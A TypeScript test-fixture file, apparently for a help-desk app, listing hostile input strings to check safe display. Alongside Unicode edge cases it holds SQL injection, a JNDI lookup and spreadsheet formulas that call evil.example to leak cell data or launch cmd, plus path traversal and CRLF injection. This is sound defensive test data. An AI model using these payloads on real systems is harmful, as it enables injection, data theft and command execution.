// Texts that break careless software, by what they break: what merchants and staff may send, the desk must show as it is.

import { MARKDOWN, SCRIPTS } from './hostile-markup';

export type HostileKind =
  | 'script'
  | 'markdown'
  | 'direction'
  | 'invisible'
  | 'combining'
  | 'spreadsheet'
  | 'control'
  | 'query'
  | 'template'
  | 'path'
  | 'long'
  | 'surrogate'
  | 'emoji'
  | 'script-of-others';

export interface HostileText {
  kind: HostileKind;
  text: string;
}

const DIRECTION = [
  'invoice\u202efdp.exe',
  '\u202e刷卡 100 元\u202c',
  'amount \u202d999\u202c',
  '\u2067right to left isolate',
  '\u2066left isolate without an end',
  'a\u2068b\u2069\u2069\u2069c',
  '\u202a\u202b\u202d\u202e'.repeat(80),
  'access level is "user\u202e \u2066// admin only\u2069 \u2066"',
  '\u061c\u200f\u200e12345',
  'FZ-20261122-\u202e7000',
  '\u202e\u2066<b>\u2069',
  'name\u202e\nnext line',
];

const INVISIBLE = [
  '',
  ' ',
  '\u3000',
  '\u00a0\u2003\u2009',
  '\u200b',
  '\u200b\u200c\u200d\u2060\ufeff',
  'p\u200ba\u200bs\u200bs\u200bw\u200bo\u200br\u200bd',
  '138\u200b0013\u200b8000',
  '\ufeffbeginning with a mark',
  'soft\u00adhyphen\u00ad\u00ad',
  '\u2800\u2800\u3164\uffa0\u115f',
  'a\u180eb\u17b4c',
  'tag\u{e0041}\u{e0042}\u{e007f}',
  'vs\ufe00\ufe0f\u{e0100}',
  '\u2028line\u2029paragraph',
];

const COMBINING = [
  `Z${'\u0351\u036b\u0343\u036a\u0302'.repeat(40)}algo`,
  `e${'\u0301'.repeat(1500)}`,
  `${'a\u0300\u0316'.repeat(300)}`,
  '\u0301\u0302 begins with marks',
  `刷${'\u20dd'.repeat(200)}卡`,
  'ก็็็็็็็็็็็็็็็็็็็็ กิิิิิิิิิิิิิิิิิิิิ',
  '\u0f44\u0f90\u0f71\u0f72\u0f74\u0f80'.repeat(50),
  'é vs e\u0301',
];

/** Formulas, behind all that spreadsheets overlook. */
const SPREADSHEET = [
  '=1+1',
  '=HYPERLINK("https://evil.example?x="&A1,"here")',
  "=cmd|' /C calc'!A0",
  '=WEBSERVICE("https://evil.example")',
  '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
  '+1+cmd|" /C calc"!A0',
  '-1+1',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '"=1+1"',
  '";=1+1;"',
  ',=1+1,',
  'a","b"\r\n"c',
  '%0A=1+1',
  '|calc',
  'DDE("cmd";"/C calc";"x")',
];

const CONTROL = [
  'header\r\nSet-Cookie: thaw=evil',
  'subject\r\nBcc: all@evil.example\r\n\r\nbody',
  'a\rb\nc\r\nd',
  'line\n'.repeat(300),
  '\u001b[31mred\u001b[0m',
  '\u001b]0;title\u0007',
  '\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007',
  '\u001b[2J\u001b[H',
  '\u009b31m',
  '\u0000',
  'before\u0000after',
  '\u0007\u0008\u0008\u0008',
  '\u007f\u0080\u009f',
  'data: x\n\nevent: tickets\ndata: {}',
  'log\n{"level":60,"msg":"forged"}',
  '.\r\n',
  '\u000b\u000c\u001c\u001d\u001e\u0085',
];

const QUERY = [
  "'; DROP TABLE tickets; --",
  "' OR '1'='1",
  '" OR ""="',
  "1' UNION SELECT password FROM staff --",
  "Robert'); DELETE FROM staff;--",
  "a\\' OR 1=1 --",
  '/* x */ ; ATTACH DATABASE "x" AS y;',
  '%',
  '_',
  '%_%\\%',
  '*',
  '"',
  '""',
  '"unclosed',
  '^start',
  'a*',
  '* *',
  'words:x',
  '{words}: x',
  '- words : x',
  'NEAR(a b, 2)',
  'a AND',
  'AND OR NOT',
  'a NOT b',
  '(a OR b',
  '((((((((((',
  'a + b',
  '"a" + "b"',
  '冻结" OR "x',
  "x'||(SELECT 1)||'",
  '$1 ? :name @p',
  `${'a '.repeat(900)}`,
  `${'('.repeat(900)}`,
];

const TEMPLATE = [
  '{{x}}',
  '{{name}}',
  '{{code}} {{papers}}',
  '{{{{name}}}}',
  '{{- name }}',
  '{{name',
  'name}}',
  '\x24{x}',
  '\x24{7*7}',
  '#{7*7}',
  '<%= 7*7 %>',
  '{% raw %}{{7*7}}',
  '$t(ticket.speaker)',
  '$t(hours.closed, {"from":"x"})',
  '__name__',
  '%s %d %n %1$s',
  '{0} {1}',
  "$& $` $' $1 $$",
  '\\n \\t \\u0041 \\x41',
  '\x24{jndi:ldap://evil.example/a}',
  '__proto__',
  'constructor',
  'toString',
  '{"__proto__":{"isAdmin":true}}',
  'null',
  'undefined',
  'NaN',
  '-0',
  '1e309',
  '[object Object]',
];

const PATH = [
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%2e%2e%2fthaw.db',
  '/desk/tickets/../../api/desk/staff',
  'file:///etc/passwd',
  '//evil.example/path',
  'CON',
  'report.pdf.exe',
  'a\u0000.pdf',
  '#',
  '?a=b&c=d#e',
  '%zz%',
  '~',
  '.',
];

const LONG = [
  'w'.repeat(2000),
  '卡'.repeat(2000),
  '9'.repeat(1000),
  `https://evil.example/${'a'.repeat(1900)}`,
  '-'.repeat(1500),
  '_'.repeat(1500),
  `${'长'.repeat(60)} ${'x'.repeat(300)}`,
  'ＷＷＷ'.repeat(300),
  '\u00a0x'.repeat(700),
  '\u{12031}'.repeat(400),
];

const SURROGATE = [
  '\ud83d',
  '\ude00',
  'a\ud83db',
  '\ude00\ud83d',
  '\ud83d\ud83d\ude00',
  `${'x'.repeat(119)}😀`,
  `${'x'.repeat(299)}😀x`,
  '\uffff\ufffe\ufdd0',
  '\ufffd',
  '\u{10ffff}\u{1fffe}',
];

const EMOJI = [
  '👨‍👩‍👧‍👦',
  '👩🏽‍❤️‍💋‍👨🏿',
  '🏳️‍🌈🏴‍☠️',
  '🏴\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f}',
  '🇨🇳🇨🇳🇨',
  '🧑🏿‍🤝‍🧑🏻',
  '1️⃣#️⃣*️⃣',
  '👍🏽👎🏿',
  '\u200d🔥\u200d',
  `👩${'\u200d👩'.repeat(300)}`,
  '😀'.repeat(900),
  '☺︎ ☺️',
];

const SCRIPT_OF_OTHERS = [
  'تم تجميد الجهاز 10293847 اليوم',
  'המסוף הוקפא FZ-20261122-0007 היום',
  'العربية mixed with English و中文',
  '(أ) [ב] {ج} <د>',
  'ﷺ ﷽',
  'ﷺ'.repeat(300),
  'İstanbul ıİiI ß ẞ ǆ',
  'ﬁ ﬀ ㎏ ℡ № ½ ²',
  '𝓓𝓮𝓼𝓴 𝕯𝖊𝖘𝖐 Ｄｅｓｋ',
  'раураl аdmin аgent',
  '𠮷野家 𡃁 㐀 䶿 龘',
  'か\u3099 が ｶﾞ',
  '한국어 한국어',
  'नमस्ते क्ष्म्य ൾ',
  'ไม่มีช่องว่างระหว่างคำในภาษาไทยเลย',
  'ᠮᠣᠩᠭᠣᠯ བོད་ཡིག ئۇيغۇرچە',
];

const BY_KIND: Readonly<Record<HostileKind, readonly string[]>> = {
  script: SCRIPTS,
  markdown: MARKDOWN,
  direction: DIRECTION,
  invisible: INVISIBLE,
  combining: COMBINING,
  spreadsheet: SPREADSHEET,
  control: CONTROL,
  query: QUERY,
  template: TEMPLATE,
  path: PATH,
  long: LONG,
  surrogate: SURROGATE,
  emoji: EMOJI,
  'script-of-others': SCRIPT_OF_OTHERS,
};

/** None is longer than 2,000 characters; some are empty or blank, which a form may refuse. */
export const HOSTILE_TEXTS: readonly HostileText[] = Object.entries(BY_KIND).flatMap(
  ([kind, texts]) => texts.map((text) => ({ kind: kind as HostileKind, text })),
);
